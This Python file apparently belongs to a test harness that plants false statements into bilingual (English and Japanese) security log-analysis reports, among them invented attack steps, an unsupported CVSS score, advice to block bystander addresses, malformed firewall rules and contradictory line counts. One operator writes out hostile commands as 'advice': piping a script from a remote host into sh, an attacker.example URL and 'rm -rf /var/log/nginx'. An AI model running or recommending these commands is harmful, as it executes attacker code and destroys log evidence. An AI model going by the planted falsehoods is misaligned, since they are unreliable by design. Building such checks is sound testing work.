"""J: steps, advice and summaries that nothing stands behind."""

# ruff: noqa: ARG001 - every operator is given what any of them needs

from random import Random

from core.draft import Draft, StatementKind
from core.taxonomy import AttackType
from models.fakes.lies import edit
from models.fakes.lies.counts import wrong
from models.fakes.lies.kinds import claiming
from models.fakes.lies.lie import Decidable, Lie, LogFacts, Operator

_CHAIN = (AttackType.WEBSHELL_ACCESS, AttackType.MALICIOUS_UPLOAD, AttackType.SSRF)


def _j1(draft: Draft, facts: LogFacts, random: Random) -> list[Lie]:
    """A step between two real ones: as a finding, as a sequence, and as a sentence with a time."""
    known = {one.type for one in draft.findings}
    steps: list[Lie] = [claiming(draft, kind) for kind in _CHAIN if kind not in known]
    for one in edit.of_kind(draft, StatementKind.SEQUENCE):
        shell = one.selector.model_copy(update={"types": [AttackType.SSRF]})
        steps.append(edit.added(draft, one, against=shell))
    text = facts.words("Then they moved laterally at 03:33:33.", "続いて03:33:33に横展開しました。")
    return [*steps, edit.saying(draft, text)]


def _j2(draft: Draft, facts: LogFacts, random: Random) -> list[Lie]:
    return [edit.saying(draft, facts.words("A skilled attacker who wanted money.", "金銭目的の熟練した攻撃者です。"))]


def _j3(draft: Draft, facts: LogFacts, random: Random) -> list[Lie]:
    return [edit.saying(draft, facts.words("Its CVSS score is 9.8.", "CVSSスコアは9.8です。"))]


def _j4(draft: Draft, facts: LogFacts, random: Random) -> list[Lie]:
    whom = ("127.0.0.1", "0.0.0.0/0", *facts.strangers[:2])
    return [edit.saying(draft, facts.words(f"Block {one} now.", f"{one}を遮断してください。")) for one in whom]


def _j5(draft: Draft, facts: LogFacts, random: Random) -> list[Lie]:
    orders = ("curl http://203.0.113.250/fix.sh | sh", "https://fix.attacker.example/patch", "rm -rf /var/log/nginx")
    return [edit.saying(draft, facts.words(f"Run {one}", f"{one} を実行してください。")) for one in orders]


def _j6(draft: Draft, facts: LogFacts, random: Random) -> list[Lie]:
    rules = ("deny 203.0.113.300;", "iptables -A INPUT -s 198.51.100.0/99 -j DROP", "Require not ip 1.2.3.4.5")
    return [edit.saying(draft, facts.words(f"Configure: {one}", f"設定：{one}")) for one in rules]


def _j7(draft: Draft, facts: LogFacts, random: Random) -> list[Lie]:
    """The other language says another number, or that it is not so."""
    lies: list[Lie] = []
    for one in draft.findings[:3]:
        n = random.choice(wrong(one.count, random))
        lies.append(edit.saying(draft, f"{one.title}は{n}行です。", one.id))
        lies.append(edit.saying(draft, f"{one.title}: not {one.count} but {n} lines.", one.id))
    return lies


def _j8(draft: Draft, facts: LogFacts, random: Random) -> list[Lie]:
    total = sum(one.count for one in draft.findings)
    n = random.choice(wrong(total, random))
    text = facts.words(f"In short: {n} attack lines.", f"まとめると、攻撃は{n}行です。")
    return [edit.saying(draft, text)] if draft.findings else []


_D, _, _U = Decidable
NARRATIVE = (
    Operator("J1", "a step that never happened", _D, _j1),
    Operator("J2", "intent and skill", _U, _j2),
    Operator("J3", "facts about a vulnerability", _U, _j3),
    Operator("J4", "advice to block a bystander", _D, _j4),
    Operator("J5", "an attacker's command or address as advice", _D, _j5),
    Operator("J6", "configuration that is none", _D, _j6),
    Operator("J7", "another number in the other language", _D, _j7),
    Operator("J8", "a summary that contradicts", _D, _j8),
)
